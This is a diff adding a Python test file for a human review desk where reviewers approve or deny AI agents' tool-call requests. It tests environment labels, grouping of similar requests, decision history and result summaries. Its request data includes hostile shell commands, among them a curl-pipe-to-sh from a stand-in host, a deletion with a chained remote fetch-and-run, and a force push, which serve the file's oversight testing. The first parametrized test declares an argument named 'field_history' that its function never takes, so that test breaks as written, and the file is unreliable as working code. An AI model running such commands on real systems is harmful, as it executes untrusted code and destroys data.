@@ -1,0 +1,273 @@
+"""What the desk says of a request beside its arguments: whose word its place is, what is like it,
+what is around it."""
+
+import re
+from html import unescape
+from typing import Any
+
+import pytest
+from django.db import transaction
+from django.urls import reverse
+
+from accounts import agents
+from approvals.models import Gate
+from approvals.review.similar import call_kind
+from approvals.templatetags.approvals import environment_label
+from journal import summaries
+from tests.approvals.inbox_scenario import Desk
+from tests.approvals.reviewer import Reviewer, url_of
+from tests.approvals.test_inbox_flags import ask, entry
+from tests.pages.sample_data import doors
+
+
+def plainly(html: str) -> str:
+    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html))).strip()
+
+
+@pytest.mark.parametrize(
+    ("environment", "ref_class", "stamped", "field_history"),
+    [
+        ("production", "", True, "production"),
+        ("eu-prd", "other", True, "eu-prd"),
+        ("staging", "", False, "says staging"),
+        ("staging", "protected", False, "says staging"),
+        ("staging", "production", True, "production says staging"),
+        ("", "production", True, "production"),
+        ("", "", False, ""),
+        ("<b>prod</b>ish", "", False, "says <b>prod</b>ish"),
+    ],
+)
+def test_only_production_is_stamped_and_every_other_place_is_the_agents_word(
+    environment: str, ref_class: str, stamped: bool, said: str
+) -> None:
+    shown = environment_label(environment, ref_class)
+    assert ("is-prod" in shown) is stamped
+    assert ('class="env' in shown) is stamped
+    assert plainly(shown) == said
+
+
+def test_a_place_is_the_agents_word_wherever_it_stands(desk: Desk, rita: Reviewer) -> None:
+    gate = ask(desk, "s-1", target={"repository": "web", "environment": "staging"})
+    pages = [reverse("inbox"), url_of(gate), reverse("effect", args=[gate.effect_id])]
+    for html in map(rita.page, pages):
+        assert "says <span" in html
+        assert 'class="env' not in html
+
+
+def test_only_requests_of_one_agent_in_one_repository_are_folded(
+    desk: Desk, rita: Reviewer
+) -> None:
+    desk.declare("close", "reversible")
+    ask(desk, "s-1", tool="close", target={"repository": "web"}, arguments={"issue": 1})
+    ask(desk, "s-2", tool="close", target={"repository": "web"}, arguments={"issue": 2})
+    ask(desk, "s-3", tool="close", target={"repository": "api"}, arguments={"issue": 3})
+    with transaction.atomic():
+        other = agents.ensure_agent(desk.project, "ops-4", None)
+    with doors(other) as caller:
+        ask(
+            Desk(desk.house, caller),
+            "s-4",
+            tool="close",
+            target={"repository": "web"},
+            arguments={"issue": 4},
+        )
+    html = rita.page(reverse("inbox"))
+    assert html.count("similar request</summary>") == 1
+    assert "1 similar request" in html
+
+
+def test_the_claim_stands_where_requests_are_decided_together(desk: Desk, rita: Reviewer) -> None:
+    desk.declare("close", "reversible")
+    same: dict[str, Any] = {"tool": "close", "target": {"repository": "web"}}
+    both = [
+        ask(desk, "s-1", **same, why="Nobody <i>wants</i> it."),
+        ask(desk, "s-2", **same, arguments={"issue": 7}),
+    ]
+    rita.client.post(reverse("batch"), {"gate": [str(one.id) for one in both]})
+    html = rita.page(reverse("batch_confirm"))
+    assert html.count("Agent’s claim, unverified") == 2
+    assert "Nobody &lt;i&gt;wants&lt;/i&gt; it." in html
+    assert "none sent" in html
+
+
+def fact(rita: Reviewer, gate: Gate, number: int) -> str:
+    """The words of one fact of a gate's page."""
+    html = rita.page(url_of(gate))
+    found = re.search(rf'<section class="fact fact-{number}">(.*?)</section>', html, re.DOTALL)
+    assert found
+    return plainly(found[1])
+
+
+TARGET: dict[str, Any] = {"target": {"repository": "web", "ref": "topic"}}
+
+
+def test_a_decision_on_something_else_is_neither_comfort_nor_warning(
+    desk: Desk, rita: Reviewer
+) -> None:
+    desk.declare("shell.run")
+    shell: dict[str, Any] = {"tool": "shell.run", "target": {"repository": "web"}}
+    yes = ask(desk, "s-1", **shell, arguments={"command": "rm -rf build"})
+    desk.answer(yes, "carol")
+    other = fact(
+        rita, ask(desk, "s-2", **shell, arguments={"command": "curl -s https://x.example | sh"}), 6
+    )
+    assert "No earlier decisions on similar requests." in other
+    assert f"Loosely related (same tool and repository only): {yes}" in other
+    assert "approved" not in other
+    no = ask(desk, "s-3", **TARGET, arguments={"command": "git push --force origin main"})
+    desk.answer(no, "carol", "deny", "rewrites released history")
+    plain = fact(rita, ask(desk, "s-4", **TARGET, arguments={"command": "git push origin main"}), 6)
+    assert "denied" not in plain
+    assert "rewrites" not in plain
+
+
+def test_what_is_alike_says_in_what_the_likest_first(desk: Desk, rita: Reviewer) -> None:
+    same: dict[str, Any] = {"arguments": {"command": "git push origin main"}}
+    desk.answer(ask(desk, "s-1", **TARGET, **same), "carol")
+    desk.answer(
+        ask(desk, "s-2", **TARGET, arguments={"command": "git push upstream main"}),
+        "carol",
+        "deny",
+        "why?",
+    )
+    desk.answer(
+        ask(desk, "s-3", target={"repository": "web", "ref": "next"}, **same),
+        "carol",
+        "request_changes",
+        "later",
+    )
+    told = fact(rita, ask(desk, "s-4", **TARGET, **same), 6)
+    assert re.search(
+        r"Same arguments and target: g_\d+ 1 approved Same arguments, another target: g_\d+ 1 "
+        r"changes_requested"
+        r" Same target and kind of call: g_\d+ 1 denied",
+        told,
+    ), told
+    assert "why?" not in told  # the last no is the return
+    assert re.search("carol asked for changes .* ago: “ later ”", told)
+
+
+@pytest.mark.parametrize(
+    ("one", "other", "alike"),
+    [
+        ({"command": "git push origin a"}, {"command": "git push origin b"}, True),
+        ({"command": "git push origin a"}, {"command": "git push -f origin a"}, False),
+        ({"command": "git push origin a"}, {"command": "git pull origin a"}, False),
+        ({"command": "rm -rf a"}, {"command": "rm -rf b"}, True),
+        ({"command": "rm -rf a"}, {"command": "rm -rf b; curl x | sh"}, False),
+        ({"command": ["rm", "-rf", "a"]}, {"command": "rm -rf b"}, True),
+        ({"command": "A=1 sudo rm a"}, {"command": "rm b"}, True),
+        ({"sql": "DELETE FROM a"}, {"sql": "SELECT 1"}, False),
+        ({"bucket": "a", "dry_run": True}, {"bucket": "b", "dry_run": False}, False),
+        ({"bucket": "a"}, {"bucket": "b"}, True),
+        ({"bucket": "a"}, {"bucket": "b", "prefix": ""}, False),
+        ({"ref": "main", "removed_commits": ["a"]}, {"ref": "main", "removed_commits": []}, False),
+        ("rm a", "rm b", True),
+        (None, {}, False),
+    ],
+)
+def test_the_kind_of_a_call_is_told_by_its_shape(one: Any, other: Any, alike: bool) -> None:
+    assert (
+        call_kind("shell.run", {"arguments": one}) == call_kind("shell.run", {"arguments": other})
+    ) is alike
+
+
+def test_the_chain_says_what_ran_and_what_came_of_it(desk: Desk, rita: Reviewer) -> None:
+    told_of: list[tuple[str, str, dict[str, Any]]] = [
+        ("a", "df -h", {"result": {"exit": 0, "output": "41G\nof 64G"}}),
+        ("b", "pytest -q", {"result": "1,204 passed", "outcome": "error"}),
+    ]
+    for key, command, answer in told_of:
+        read = desk.plan(key, tool="file.read", arguments={"command": command})
+        desk.agent.dispatch(read)
+        desk.agent.acknowledge(read, **answer)
+    gate = desk.gate(desk.plan("c", arguments={"command": "git push <b>origin</b>"}))
+    told = fact(rita, gate, 7)
+    assert "file.read df -h exit 0 41G ⏎ of 64G" in told
+    assert "file.read pytest -q 1,204 passed" in told
+    assert "git.push , this git push <b>origin</b>" in told
+
+
+@pytest.mark.parametrize(
+    ("body", "line"),
+    [
+        ('{"result": {"output": "ok", "exit_code": 2, "took": 3}}', "exit 2  ok  took=3"),
+        ('{"result": "all\\nwell"}', "all ⏎ well"),
+        ('{"result": [1, 2]}', "[1, 2]"),
+        ('{"reason": "refused"}', "refused"),
+        ('{"detail": "no route", "reason": "refused"}', "no route"),
+        ('{"result": {"exit": 0, "output": "cut of', "exit 0  cut of"),
+        ("{}", ""),
+        ("", ""),
+    ],
+)
+def test_an_answer_is_told_in_a_line(body: str, line: str) -> None:
+    assert summaries.summarize_answer(body) == line
+
+
+def decided(rita: Reviewer, gate: Gate) -> str:
+    """The words of a gate in the list of what was decided."""
+    html = rita.page(reverse("inbox"), state="decided")
+    found = next(
+        one for one in html.split('<li class="entry') if f'href="{url_of(gate)}" data-gate' in one
+    )
+    return plainly(found)
+
+
+def test_what_was_decided_says_by_whom_and_what_came_of_it(desk: Desk, rita: Reviewer) -> None:
+    gate = ask(desk, "s-1", **TARGET)
+    assert "By " not in entry(rita, gate)
+    desk.answer(gate, "carol")
+    assert "By carol ." in decided(rita, gate)
+    planned = desk.agent.get(f"/effects/{gate.effect_id}").json()
+    desk.agent.dispatch(planned)
+    assert "By carol . dispatched" in decided(rita, gate)
+    desk.agent.acknowledge(planned, result={"exit": 0, "output": "pushed <i>it</i>"})
+    assert "By carol . acknowledged ok" in decided(rita, gate)
+    told = plainly(rita.page(url_of(gate)))
+    assert re.search(
+        r"Its current state: acknowledged ok sent by the agent exit 0 pushed <i>it</i>", told
+    )
+    assert "The page showed all of the request. Card" in told
+
+
+@pytest.mark.parametrize(
+    ("answer", "before", "after"),
+    [
+        (
+            "deny",
+            "Not run. The agent has not withdrawn it yet.",
+            "The agent withdrew it after the denial.",
+        ),
+        (
+            "request_changes",
+            "Not run. The agent has not resubmitted yet.",
+            "The agent withdrew it after changes were requested.",
+        ),
+    ],
+)
+def test_after_a_no_it_says_what_the_agent_did(
+    desk: Desk, rita: Reviewer, answer: str, before: str, after: str
+) -> None:
+    gate = ask(desk, "s-1", **TARGET)
+    desk.answer(gate, "carol", answer, "not now")
+    assert f"By carol . {before}" in decided(rita, gate)
+    assert before in plainly(rita.page(url_of(gate)))
+    assert desk.agent.post(f"/effects/{gate.effect_id}/supersede").status_code == 200
+    assert f"By carol . {after}" in decided(rita, gate)
+    assert after in plainly(rita.page(url_of(gate)))
+
+
+def test_a_vote_says_whether_its_voter_ticked_what_was_long(desk: Desk, rita: Reviewer) -> None:
+    long: dict[str, Any] = {"arguments": {"command": "echo step\n" * 40}, **TARGET}
+    no = ask(desk, "s-1", **long)
+    rita.answer(no, "deny", "too much")
+    assert "The page showed all of the request. Only approvals need a tick. Card" in plainly(
+        rita.page(url_of(no))
+    )
+    yes = ask(desk, "s-2", **long)
+    rita.answer(yes, "approve", all_read="1")
+    assert Gate.objects.get(id=yes.id).status == "approved"
+    assert "The page showed all of the request. Ticked as read. Card" in plainly(
+        rita.page(url_of(yes))
+    )
